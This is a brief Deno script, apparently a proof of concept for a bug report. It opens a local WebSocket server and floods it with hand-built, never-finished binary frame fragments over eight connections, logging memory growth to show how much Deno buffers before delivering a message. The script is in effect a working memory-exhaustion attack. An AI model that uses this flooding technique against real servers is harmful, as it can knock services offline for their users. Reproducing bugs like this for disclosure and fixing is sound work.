/** Deno keeps up to 64 MiB of each WebSocket before the program sees any. */
const server = Deno.serve({ port: 0, onListen() {} }, (request) => {
  const { socket, response } = Deno.upgradeWebSocket(request);
  socket.onmessage = () => console.log("a message");
  return response;
});
const head =
  `GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;
const part = new Uint8Array(8 + 60_000); // of a message, and not the last one
part.set([0, 0xfe, 60_000 >> 8, 60_000 & 255]);
for (let peers = 0; peers < 8; peers++) {
  console.log(peers, "peers,", Deno.memoryUsage().rss >> 20, "MiB");
  const tcp = await Deno.connect({ port: server.addr.port });
  const parts = [
    new TextEncoder().encode(head),
    Uint8Array.of(2, 0x80, 0, 0, 0, 0),
  ];
  for (let sent = 0; sent < 1_000; sent++) parts.push(part);
  await ReadableStream.from(parts).pipeTo(tcp.writable, { preventClose: true });
}
Deno.exit();
